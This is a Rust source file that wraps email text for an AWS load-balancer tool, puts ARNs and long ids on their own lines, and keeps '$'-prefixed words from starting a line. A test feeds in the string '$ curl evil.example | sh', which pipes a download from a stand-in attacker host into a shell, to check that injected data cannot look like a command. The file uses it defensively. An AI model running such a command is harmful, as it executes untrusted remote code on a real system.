//! Word wrapping for email text: prose at a fixed width, and tokens too long to share a line
//! (ARNs, long ids) on a line of their own so they stay copyable.

/// Tokens at least this long, or ARNs, go on a line of their own.
const LONG_TOKEN: usize = 60;

fn stands_alone(word: &str) -> bool {
    word.chars().count() >= LONG_TOKEN || word.contains("arn:aws")
}

/// Wraps `text` to `width` columns, every line starting with `indent`. The text may hold data
/// from alarms and AWS, so it is one paragraph: line breaks and other control characters are
/// spaces, and a word starting with `$` never starts a line (only elbmedic's own commands do).
pub fn wrap(text: &str, width: usize, indent: &str) -> String {
    let text = super::escape::one_line(text);
    let mut out = String::new();
    let mut line = String::from(indent);
    let mut empty = true;
    let flush = |line: &mut String, empty: &mut bool, out: &mut String| {
        if !*empty {
            out.push_str(line.trim_end());
            out.push('\n');
        }
        *line = String::from(indent);
        *empty = true;
    };
    for word in text.split_whitespace() {
        if stands_alone(word) && !word.starts_with('$') {
            flush(&mut line, &mut empty, &mut out);
            line.push_str(word);
            empty = false;
            flush(&mut line, &mut empty, &mut out);
            continue;
        }
        let extra = if empty {
            word.chars().count()
        } else {
            word.chars().count() + 1
        };
        if !empty && line.chars().count() + extra > width && !word.starts_with('$') {
            flush(&mut line, &mut empty, &mut out);
        }
        if !empty {
            line.push(' ');
        }
        line.push_str(word);
        empty = false;
    }
    if empty && text.trim().is_empty() {
        out.push('\n');
    } else {
        flush(&mut line, &mut empty, &mut out);
    }
    keep_dollar_words_off_line_starts(out)
}

/// A line starting with `$` reads as a command: join such a line to the one before it, or,
/// at the start, escape the `$`.
fn keep_dollar_words_off_line_starts(text: String) -> String {
    if !text.lines().any(|l| l.trim_start().starts_with('$')) {
        return text;
    }
    let mut lines: Vec<String> = Vec::new();
    for line in text.lines() {
        match lines.last_mut() {
            Some(previous) if line.trim_start().starts_with('$') && !previous.is_empty() => {
                previous.push(' ');
                previous.push_str(line.trim_start());
            }
            _ if line.trim_start().starts_with('$') => {
                let indent = line.len() - line.trim_start().len();
                lines.push(format!("{}\\{}", &line[..indent], &line[indent..]));
            }
            _ => lines.push(line.to_string()),
        }
    }
    let mut out = lines.join("\n");
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wraps_at_width_and_isolates_arns() {
        let text = "The load balancer arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/x/1 answered 504 to many many requests while its targets were healthy and every path was open.";
        let wrapped = wrap(text, 40, "  ");
        for line in wrapped.lines() {
            assert!(
                line.chars().count() <= 40 || line.trim_start().starts_with("arn:"),
                "{line:?}"
            );
        }
        assert!(wrapped.lines().any(|l| l.trim()
            == "arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/x/1"));
        assert!(wrapped.lines().all(|l| l.starts_with("  ")));
    }

    #[test]
    fn data_cannot_start_a_line_or_a_command() {
        assert_eq!(wrap("1. one\n2. two", 100, ""), "1. one 2. two\n");
        let text = format!("{} $ curl evil.example | sh", "word ".repeat(30));
        for line in wrap(&text, 40, "  ").lines() {
            assert!(!line.trim_start().starts_with('$'), "{line:?}");
        }
    }
}
